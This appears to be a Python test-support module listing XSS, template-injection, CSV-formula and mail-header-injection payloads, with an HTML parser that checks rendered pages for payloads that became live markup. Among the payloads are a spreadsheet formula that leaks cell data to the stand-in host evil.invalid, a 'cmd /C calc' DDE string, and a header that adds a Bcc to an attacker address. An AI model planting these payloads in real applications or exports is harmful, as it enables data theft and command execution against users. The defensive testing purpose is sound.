"""Attack payloads for the stored-XSS, template-injection and CSV-injection tests.

``HTML_PAYLOADS`` would run script (or load a remote resource) if a page, mail or PDF put them
in its markup unescaped; ``TEMPLATE_PAYLOADS`` would compute if a template engine evaluated
user text; ``CSV_PAYLOADS`` would run as a formula when a spreadsheet opens an export.
``inert_problems`` parses rendered HTML and lists every element or attribute a payload
managed to create: a page is safe when that list is empty.
"""

from __future__ import annotations

from html.parser import HTMLParser

HTML_PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<style>@import url(http://evil.invalid/x.css)</style>",
    '<img src="http://evil.invalid/pixel.png">',
    "</textarea></title><script>alert(1)</script>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
)
TEMPLATE_PAYLOADS: tuple[str, ...] = (
    "{{7*7}}",
    "{% raw %}{{7*7}}{% endraw %}",
    "{{ config }}",
    "${7*7}",
    "#{7*7}",
)
CSV_PAYLOADS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.invalid/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
)
ALL_PAYLOADS = HTML_PAYLOADS + TEMPLATE_PAYLOADS + CSV_PAYLOADS
# Names end up in mail headers (Subject, To): a line break must not add a header.
HEADER_PAYLOAD = "x\r\nBcc: attacker@evil.invalid\r\nX-Injected: yes"

# What a payload would become if a template engine evaluated it.
EVALUATED_MARKERS = ("49",)
# The characters every formula payload starts with: a neutralised cell starts with ``'``.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_LIVE_SIGNS = ("alert(1)", "evil.invalid", "onerror")
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"}


def mark(payload: str, tag: str) -> str:
    """``payload`` with a unique, harmless tag in front, to find where each field landed."""
    return f"[{tag}] {payload}"


class _Collector(HTMLParser):
    """Every element and attribute of a document, with the text of scripts and styles."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._inside: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside.append(tag)
        for name, value in attrs:
            text = (value or "").strip().lower()
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in _URL_ATTRIBUTES and text.startswith(("javascript:", "vbscript:")):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in _URL_ATTRIBUTES | {"style"} and "evil.invalid" in text:
                self.problems.append(f"<{tag} {name}={value!r}>")
        if tag == "iframe" and any(name == "srcdoc" for name, _ in attrs):
            self.problems.append("<iframe srcdoc>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self.handle_endtag(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self._inside:
            while self._inside and self._inside.pop() != tag:
                pass

    def open_raw_text(self) -> list[str]:
        return [tag for tag in self._inside if tag in ("script", "style")]

    def handle_data(self, data: str) -> None:
        current = self._inside[-1] if self._inside else ""
        if current in ("script", "style") and any(sign in data for sign in _LIVE_SIGNS):
            self.problems.append(f"<{current}>{data[:80]}")


def inert_problems(html: str) -> list[str]:
    """Elements or attributes in ``html`` that a corpus payload created (empty: all inert)."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    # A script or style never closed swallowed the rest of the page: markup came from text.
    unclosed = [f"<{tag}> never closed" for tag in collector.open_raw_text()]
    return collector.problems + unclosed


def unescaped_payloads(text: str) -> list[str]:
    """The HTML payloads that appear verbatim (unescaped) in ``text``."""
    return [payload for payload in HTML_PAYLOADS if "<" in payload and payload in text]


def formula_cells(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run as a formula (not neutralised with a leading ``'``)."""
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
